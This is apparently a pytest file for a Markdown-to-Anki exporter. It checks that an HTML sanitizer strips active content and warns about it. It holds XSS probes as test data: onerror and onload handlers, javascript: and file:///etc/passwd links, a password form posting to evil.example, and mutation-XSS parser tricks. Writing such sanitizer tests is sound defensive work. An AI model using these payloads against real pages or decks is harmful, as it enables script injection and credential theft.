"""Raw HTML in notes goes through an allow-list: what Anki's web view would run or load is
removed with a warning naming the card, everything that formats stays, our own generated HTML
is untouched byte for byte, and `--trusted-html` keeps everything."""

from __future__ import annotations

import html
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import AnkiCollection

from vault2anki.render.sanitize import sanitize

from .conftest import deck_fields, export

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360f8cfc0f01f0005fe02fea7d5a0a50000000049454e44ae426082"
)
YOUTUBE = (
    '<iframe width="560" height="315" src="https://www.youtube.com/embed/w-vUj0gHGgg?start=538" '
    'frameborder="0" allowfullscreen></iframe>'
)

# The probes of issue 12, each with what must be gone from the field and what must stay.
HOSTILE = {
    "img-onerror": ("<img src=x onerror=alert(1)> after", ["onerror", "alert"], ["after"]),
    "js-link": ('<a href="javascript:alert(1)">click</a>', ["javascript"], ["click"]),
    "js-iframe": ("<iframe src=javascript:alert(1)></iframe>", ["javascript"], []),
    "svg-onload": ("<svg onload=alert(1)><circle r=1 /></svg>ok", ["svg", "onload"], ["ok"]),
    "form": (
        '<form action="https://evil.example"><input type=password name=p><button>Go</button>'
        "</form>",
        ["form", "password", "evil.example", "<button"],
        ["Go"],
    ),
    "file-link": ('<a href="file:///etc/passwd">passwd</a>', ["file:"], ["passwd"]),
    "style": ("<style>.card { display: none }</style>visible", ["style", "display"], ["visible"]),
    "link-meta": (
        # Inline, the renderer escapes unknown tags already; inside an HTML block they pass.
        '<div><link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" '
        'content="0;url=https://evil.example"></div>\n\ntext',
        ["<link", "<meta", "evil.example"],
        ["text"],
    ),
    "script": ("<script>alert(1)</script>plain", ["script", "alert"], ["plain"]),
    "data-link": ('<a href="data:text/html,<b>x</b>">d</a>', ["data:"], [">d</a>"]),
    "entity-js": ('<a href="javascript&#58;alert(1)">e</a>', ["javascript", "alert"], [">e</a>"]),
    "evil-iframe": ('<iframe src="https://evil.example/x"></iframe>', ["evil.example"], []),
    "inline-style": (
        '<span style="position:fixed;top:0;left:0;width:100%;color:red">x</span>',
        ["position", "fixed"],
        ["color:red"],
    ),
}


def _note(body: str) -> str:
    return f"# Hostile?\n## Answer\n{body}\n"


@pytest.mark.parametrize("probe", sorted(HOSTILE))
def test_hostile_html_is_removed_with_a_warning(vault: Path, out: Path, probe: str) -> None:
    body, gone, kept = HOSTILE[probe]
    (vault / "hostile.md").write_text(_note(body), encoding="utf-8")
    run = export(vault, out)
    assert run.code == 0, run.result.output
    [warning] = run.lines
    # line 3: the HTML itself, not the answer heading above it
    assert warning.startswith("hostile.md:3: warning: raw HTML that Anki would run or load was ")
    assert warning.endswith(
        "the card exports without it — pass --trusted-html if you trust every note of this vault"
    )
    [answer] = [f[1] for f in deck_fields(out) if "Hostile" in f[0]]
    for text in gone:
        assert text not in answer, (probe, answer)
    for text in kept:
        assert text in answer, (probe, answer)


@pytest.mark.parametrize("probe", sorted(HOSTILE))
def test_trusted_html_keeps_it_and_strict_refuses_it(vault: Path, out: Path, probe: str) -> None:
    body, gone, _ = HOSTILE[probe]
    (vault / "hostile.md").write_text(_note(body), encoding="utf-8")
    trusted = export(vault, out, "--trusted-html")
    assert trusted.code == 0 and trusted.lines == []
    [answer] = [f[1] for f in deck_fields(out) if "Hostile" in f[0]]
    for text in gone:  # all there (what the renderer itself escapes, as text)
        assert text in html.unescape(answer), (probe, answer)
    strict = export(vault, out.with_name("strict.apkg"), "--strict")
    assert strict.code == 1
    assert strict.lines[-1] == "Error: 1 problems and --strict: nothing written"
    assert not out.with_name("strict.apkg").exists()


OURS = {
    "code.md": "# Code?\n## Answer\n```python\ndef f(x):\n    return \"q\" + 'x' < 2\n```\n",
    "callout.md": (
        "# Callout?\n## Answer\n> [!note] Title\n> body **bold**\n\n> [!tip]- Folded\n> inside\n"
    ),
    "math.md": "# Math?\n## Answer\nInline $a^2 < b$ and\n\n$$\n\\frac{1}{2}\n$$\n",
    "links.md": "# Links?\n## Answer\nSee [[code]] and [[callout#Answer|there]], <https://ex.org/a?b=1&c=2>\n",
    "table.md": "# Table?\n## Answer\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n",
    "tasks.md": "# Tasks?\n## Answer\n- [ ] open\n- [x] done\n",
    "media.md": "# Media?\n## Answer\n![[pic.png|100]] ![alt](pic.png)\n",
    "inline.md": (
        "# Inline?\n## Answer\n<kbd>Ctrl</kbd>+<kbd>C</kbd>, x<sup>2</sup>, H<sub>2</sub>O, "
        "==mark==, ~~del~~, <u>u</u>\n\n<details><summary>More</summary>hidden</details>\n\n"
        f'{YOUTUBE}\n\n<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">\n'
    ),
    "ol.md": "# List?\n## Answer\n3. three\n4. four\n\n<br/>line<br />\n",
}


def test_our_own_html_is_byte_for_byte_what_trusted_html_gives(tmp_path: Path) -> None:
    vault = tmp_path / "ours"
    vault.mkdir()
    for name, text in OURS.items():
        (vault / name).write_text(text, encoding="utf-8")
    (vault / "pic.png").write_bytes(PNG)
    for links in ("text", "obsidian"):
        safe = export(vault, tmp_path / f"safe-{links}.apkg", "--links", links)
        trusted = export(
            vault, tmp_path / f"trusted-{links}.apkg", "--links", links, "--trusted-html"
        )
        assert safe.code == trusted.code == 0, safe.result.output
        assert not [line for line in safe.lines if "raw HTML" in line]
        fields = deck_fields(tmp_path / f"safe-{links}.apkg")
        assert fields == deck_fields(tmp_path / f"trusted-{links}.apkg")
    joined = "\n".join(f[1] for f in fields)
    for ours in (
        'class="highlight"',
        'class="callout',
        "<details",
        "obsidian://open?vault=ours",
        'style="text-align:center"',
        'type="checkbox"',
        "<kbd>",
        "<sup>",
        "<mark>",
        YOUTUBE,
        "data:image/png",
        '<ol start="3">',
    ):
        assert ours in joined, ours


def test_hostile_vault_imports_every_note_into_real_anki(
    vault: Path, out: Path, anki: AnkiCollection
) -> None:
    for probe, (body, _, _) in HOSTILE.items():
        (vault / f"{probe}.md").write_text(_note(body), encoding="utf-8")
    run = export(vault, out)
    assert run.code == 0
    counts = anki.import_package(out)
    assert counts.new == len(HOSTILE) + 1
    answers = " ".join(str(n["Answer"]) for n in anki.notes())
    for needle in ("onerror", "javascript", "<script", "<form", "<style", "file:", "onload"):
        assert needle not in answers
    again = export(vault, out)
    assert again.code == 0 and anki.import_package(out).new == 0


@pytest.mark.parametrize(
    "html",
    [
        "<p>plain</p>",
        '<div class="highlight"><pre><span></span><code><span class="n">x</span></code></pre>'
        "</div>",
        "<p>a &quot;b&quot; &#39;c&#39; &amp; &lt;d&gt;</p>",
        "<p><div>mis-nested</div></p>",
    ],
)
def test_what_is_kept_is_kept_as_written(html: str) -> None:
    assert sanitize(html) == html


class _Active(HTMLParser):
    """Event handlers and script URLs as a browser-like parser sees them in the output."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "style", "svg", "math", "noscript", "form"):
            self.found.append(tag)
        for name, value in attrs:
            if (
                name.startswith("on")
                or name == "srcdoc"
                or "script:" in (value or "").replace("\t", "").lower()
            ):
                self.found.append(f"{tag} {name}")


@pytest.mark.parametrize(
    "hostile",
    [
        "<!--><img src=x onerror=alert(1)>-->",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        '<a href="jav&#x09;ascript:alert(1)">t</a>',
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<img src="x" onerror="alert(1)"//',
        "<p>ok</p><IMG SRC=x ONERROR=alert(1)>",
        '<a href=" javascript:alert(1)">t</a>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    ],
)
def test_parser_tricks_leave_nothing_active(hostile: str) -> None:
    parser = _Active()
    parser.feed(sanitize(hostile))
    assert parser.found == []


def test_one_allow_list_for_the_markdown_side_and_the_sanitizer() -> None:
    """Every tag plugins/raw_html.py passes through as HTML is kept by the sanitizer, unless it
    is one that runs or loads (then it is removed with the warning)."""
    from vault2anki.render.plugins.raw_html import KNOWN_TAGS
    from vault2anki.render.sanitize import RUNS_OR_LOADS, runs_or_loads

    for tag in sorted(KNOWN_TAGS - RUNS_OR_LOADS):
        probe = (
            f"<{tag}>"
            if tag in {"br", "hr", "img", "wbr", "source", "track", "col"}
            else (f"<{tag}>x</{tag}>")
        )
        if tag in {"tr", "td", "th", "tbody", "thead", "tfoot", "caption", "col", "colgroup"}:
            probe = f"<table>{probe}</table>"  # parsers drop table parts outside a table
        if tag in {"source", "track"}:
            probe = f"<video>{probe}</video>"
        assert f"<{tag}" in sanitize(probe), tag
    assert {"iframe", "object", "svg", "math"} == KNOWN_TAGS & RUNS_OR_LOADS
    assert all(runs_or_loads(f"<{tag}>") for tag in KNOWN_TAGS & RUNS_OR_LOADS)


@pytest.mark.parametrize(
    ("body", "kept"),
    [
        (
            "<section>block</section> and <label>l</label> and <nav>n</nav>",
            ["<section>block</section>", "<label>l</label>", "<nav>n</nav>"],
        ),
        ("<article><header>h</header><aside>a</aside><footer>f</footer></article>", ["<aside>"]),
        ('<meter value="0.6">60%</meter> <data value="7">seven</data>', ['<meter value="0.6">']),
        # not on the allow-list, but runs nothing: unwrapped quietly, the text kept
        ("<div><marquee>old</marquee> <my-widget>custom</my-widget> <x id=a>t</x></div>", ["old"]),
        ('<p id="anchor" name="n">para</p>', ["para"]),
    ],
)
def test_harmless_tags_are_kept_or_unwrapped_without_a_warning(
    vault: Path, out: Path, body: str, kept: list[str]
) -> None:
    (vault / "layout.md").write_text(_note(body), encoding="utf-8")
    run = export(vault, out, "--strict")  # the release build of examples/github-actions.yml
    assert run.code == 0, run.result.output
    assert not [line for line in run.lines if "raw HTML" in line or "trusted-html" in line]
    [answer] = [f[1] for f in deck_fields(out) if "Hostile" in f[0]]
    for text in kept:
        assert text in answer, (body, answer)
    assert "<marquee" not in answer and "<my-widget" not in answer


def test_the_warning_names_the_line_of_the_html(vault: Path, out: Path) -> None:
    """In the answer, in the question above its heading, in any case; the heading's line only
    when the card's own Markdown does not hold it (it came from an embedded note)."""
    (vault / "answer.md").write_text(
        "# First?\n## Answer\nfine\n\n# Deep?\n## Answer\none\ntwo\n<SCRIPT>x</SCRIPT>\n",
        encoding="utf-8",
    )
    (vault / "question.md").write_text(
        "# Q?\nwhy <img src=x onerror=alert(1)>\nmore\n## Answer\nA\n", encoding="utf-8"
    )
    (vault / "embeds.md").write_text("# E?\n## Answer\nsee\n![[part]]\n", encoding="utf-8")
    (vault / "part.md").write_text("<iframe src=javascript:alert(1)></iframe>\n", encoding="utf-8")
    run = export(vault, out)
    where = sorted(line.split(": warning: raw HTML")[0] for line in run.lines if "raw HTML" in line)
    assert where == ["answer.md:9", "embeds.md:2", "question.md:2"], run.lines
